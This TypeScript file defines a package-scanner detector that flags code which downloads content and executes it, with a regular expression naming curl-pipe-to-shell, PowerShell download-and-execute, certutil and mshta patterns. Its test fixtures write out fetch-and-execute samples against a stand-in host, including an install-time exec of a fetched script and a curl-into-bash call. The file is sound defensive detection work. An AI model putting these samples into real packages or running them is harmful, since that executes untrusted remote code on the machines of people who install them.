import { isProgram } from "../behaviour/commands.ts";
import { marks, mayDo } from "../behaviour/marks.ts";
import { deedsOf, type Flow, flowsBetween } from "../behaviour/trace.ts";
import type { Detector } from "../detector.ts";
import type { ReleaseTree, SourceFile } from "../model.ts";
import { asksOwnVersion, certainty } from "./_flow.ts";
import { codeWith, isLate, matchInCode, sight } from "./_sight.ts";

const COMMANDS = ["curl", "wget", "certutil", "downloadstring", "downloadfile", "invoke-webrequest", "mshta"] as const;
/** One command that fetches and runs what it fetched. */
const PIPED =
  /(?:curl|wget)\b[^|\n"']{0,300}\|[ \t]{0,4}(?:sudo[ \t]{1,4})?(?:ba|z|da)?sh\b|(?:curl|wget)\b[^|\n"']{0,300}(?:&&|;)[ \t]{0,4}(?:sudo[ \t]{1,4})?(?:chmod[ \t]{1,4}[+\w]{1,6}|(?:ba|z)?sh|\.\/|nohup|python3?|start)[ \t]|(?:iex|invoke-expression)[ \t]{0,4}["'(&$][^\n]{0,80}(?:downloadstring|irm|iwr|invoke-webrequest|invoke-restmethod)|(?:downloadstring|irm|iwr|invoke-webrequest|invoke-restmethod)[ \t(][^\n]{0,300}\|[ \t]{0,4}(?:iex|invoke-expression)|(?:downloadfile|invoke-webrequest|iwr|start-bitstransfer|certutil)\b[^\n]{0,500}(?:start-process|invoke-expression|invoke-item|;[ \t]{0,4}start\b|&[ \t]{0,4}start\b)|mshta(?:\.exe)?[ \t]{1,4}https?:/i;

export const downloadsAndRuns: Detector = {
  id: "downloads-and-runs",
  title: "Runs what it has downloaded",
  severity: "critical",
  ecosystems: ["pypi", "npm", "nuget"],
  points: 6.5,
  class: "threat",
  group: "download-and-run",
  why: `What comes back from a server is executed: as Python or JavaScript text, as a file that was written and then started, or by a
shell command that pipes one into the other. Who controls the server decides what runs, long after the release was inspected.

Installers of browsers, compilers and language models do this when the user asks for them. It counts fully where it happens at
install or import, and in part in a function that somebody has to call.`,
  literals: marks("http", "decode"),
  *detect(tree) {
    for (const file of codeWith(tree, marks("http", "decode"))) {
      yield* piped(file);
      for (const flow of flowsBetween(file, ["http"], ["start", "run-code"]))
        if (isProgram(flow.sink)) yield said(file, flow, tree);
    }
  },
  examples: {
    matches: [
      {
        ecosystem: "pypi",
        files: {
          "setup.py": "import urllib.request\nexec(urllib.request.urlopen('http://example.invalid/x').read())\n",
        },
      },
      {
        ecosystem: "pypi",
        files: {
          "demo/__init__.py":
            "import requests, subprocess\nr = requests.get('http://example.invalid/x')\nwith open('x.bin', 'wb') as f:\n    f.write(r.content)\nsubprocess.run(['x.bin'])\n",
        },
      },
    ],
    passes: [
      {
        ecosystem: "pypi",
        files: { "demo/a.py": "import requests, subprocess\nprint(requests.get(url).text)\nsubprocess.run(['ls'])\n" },
      },
      { ecosystem: "pypi", files: { "demo/a.py": "# curl http://example.invalid/x | sh\n" } },
    ],
    evasions: [
      {
        ecosystem: "npm",
        files: {
          "a.js":
            "const get = () => fetch('https://example.invalid/x').then((r) => r.text());\nfunction go(t) { new Function(t)(); }\ngo(await get());\n",
        },
      },
      {
        ecosystem: "pypi",
        files: { "setup.py": "from os import system as s\ns('curl -s http://example.invalid/x | bash')\n" },
      },
      {
        ecosystem: "pypi",
        files: {
          "demo/__init__.py":
            "import requests as r\ndef get():\n    return r.get('http://example.invalid/x').text\nrun = exec\nrun(get())\n",
        },
      },
    ],
  },
};

/** In a program only where a started command says it, so that instructions for readers pass; in a script anywhere. */
function* piped(file: SourceFile) {
  if (SHELLS.has(file.kind)) {
    const match = matchInCode(file, PIPED);
    if (match === undefined) return;
    yield sight(file, match.index, `fetches and runs in one command: ${match[0]}`, {
      share: isLate(file) ? 0.15 : 1,
    });
    return;
  }
  if (!COMMANDS.some((word) => file.has(word)) && !mayDo(file, ["decode"])) return;
  for (const deed of deedsOf(file, "start")) {
    const match = PIPED.exec(deed.text.slice(0, 4_000));
    if (match === null) continue;
    yield sight(file, deed.offset, `fetches and runs in one command: ${match[0]}`, {
      phase: deed.phase,
      // A command that stands nowhere as it is was encoded, which no installer has a reason for.
      share: !isLate(deed) ? 1 : file.text.includes(match[0].slice(0, 30)) ? 0.6 : 0.95,
    });
  }
}

/** Files that droppers leave where nobody looks. */
const HIDDEN_PLACE = /gettempdir|mkdtemp|APPDATA|%TEMP%/i;
const PROGRAM = /\.(?:exe|scr|bat|cmd|vbs|ps1|pyw|hta)\b/i;
/** A library of some size has installers for what it needs. */
const SMALL = 6_000;

function lateShare({ text }: SourceFile, from: string, started: string): number {
  if (/^\s{0,4}https?:\/\/[^\s…]{4,300}(?:\s|$)/.test(from)) return 0.97;
  return text.length < SMALL && (HIDDEN_PLACE.test(text) || PROGRAM.test(started)) ? 0.85 : 0.75;
}

const SHELLS = new Set(["shell", "batch", "powershell"]);

/** A script or a program that lies where anybody may put one. */
const UNOWNED_PROGRAM =
  /https?:\/\/(?:raw\.githubusercontent\.com|gist\.githubusercontent\.com|pastebin\.com\/raw|cdn\.discordapp\.com)\/[^\s"'<>]{1,300}\.(?:py|pyw|exe|ps1|bat|vbs|sh)\b/i;

function said(file: SourceFile, flow: Flow, tree: ReleaseTree) {
  const { source, sink } = flow;
  const how = sink.act === "start" ? "started" : "executed";
  const from = source.text.trim() === "" ? "" : ` (${source.text.trim().slice(0, 100)})`;
  const says = `what ${source.what} fetches${from} is ${how} by ${sink.what}`;
  // Where the address is written down, its owner decides what runs; where the caller gives it, the caller does.
  const known = isLate(sink) ? lateShare(file, source.text, sink.text) : 1;
  const sure = certainty(file, flow) * (asksOwnVersion(file, sink, tree) ? 0.25 : 1);
  const unowned = sink.act === "start" && file.text.length < 4 * SMALL && UNOWNED_PROGRAM.test(file.text);
  return sight(file, sink.offset, says, { phase: sink.phase, share: known * (unowned ? Math.max(sure, 0.7) : sure) });
}
